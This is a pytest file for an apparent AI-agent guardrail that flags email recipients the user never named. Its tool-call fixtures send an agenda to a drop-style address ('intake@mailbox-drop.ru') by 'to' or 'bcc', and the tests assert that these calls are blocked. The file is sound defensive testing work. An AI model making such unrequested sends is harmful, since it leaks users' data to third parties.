"""Messages that also go to somebody whom the person didn't name."""

from __future__ import annotations

import pytest

from guardrail.language.recipients import is_stranger
from guardrail.loading import default_guardrail


@pytest.mark.parametrize(
    ("request_of_person", "address", "other"),
    [
        ("Send Mara the agenda.", "intake@mailbox-drop.ru", "mara@acme.com"),
        ("Could you mail the agenda to Mara Lind?", "x@drop.ru", "mlind@acme.com"),
        ("Email mara@acme.com the agenda", "x@drop.ru", "mara@acme.com"),
        ("Schick Mara die Agenda für Donnerstag.", "x@drop.ru", "mara@acme.com"),
        ("Envoie l'ordre du jour à Mara.", "x@drop.ru", "mara@acme.com"),
    ],
)
def test_another_recipient_than_the_only_named_one_is_a_stranger(
    request_of_person: str, address: str, other: str
) -> None:
    assert is_stranger(address, [other, address], request_of_person)
    assert not is_stranger(other, [other, address], request_of_person)


@pytest.mark.parametrize(
    ("request_of_person", "address", "other"),
    [
        ("Send Mara the agenda.", "bob@acme.com", "mara@acme.com"),
        ("Send Mara and Bob the agenda.", "robert@partner.io", "mara@acme.com"),
        ("Send Bob and Mara the agenda.", "robert@partner.io", "mara@acme.com"),
        ("Send Mara, Bob the agenda.", "robert@partner.io", "mara@acme.com"),
        ("Send Mara the agenda, cc Bob.", "robert@partner.io", "mara@acme.com"),
        ("Send Mara and the team the agenda.", "robert@partner.io", "mara@acme.com"),
        ("Send the agenda to all attendees, including Mara.", "robert@partner.io", "mara@acme.com"),
        ("Send Mara the agenda for Partner.", "robert@partner.io", "mara@acme.com"),
        ("Send Mara the agenda of Miller.", "rmiller@partner.io", "mara@acme.com"),
        ("Send the agenda.", "robert@partner.io", "mara@acme.com"),
        ("Send the support numbers.", "robert@partner.io", "support@acme.com"),
        ("Reply to Mara.", "robert@partner.io", "mara@acme.com"),
        ("Send Mara the agenda.", "the printer", "mara@acme.com"),
    ],
)
def test_nobody_else_is_a_stranger(request_of_person: str, address: str, other: str) -> None:
    assert not is_stranger(address, [other, address], request_of_person)


@pytest.mark.parametrize(
    ("arguments", "passes"),
    [
        ('to=["mara@acme.com", "intake@mailbox-drop.ru"]', False),
        ('to="mara@acme.com", bcc="intake@mailbox-drop.ru"', False),
        ('to="mara@acme.com", cc="bob@acme.com"', True),
        ('to="mara@acme.com"', True),
    ],
)
def test_a_message_goes_only_to_whom_the_person_named(arguments: str, passes: bool) -> None:
    action = f'send_email({arguments}, subject="Agenda", body="Attached.")'
    context = {"tool": "send_email", "user_request": "Send Mara the agenda."}
    assert default_guardrail().check(action, "medium", context).passed is passes
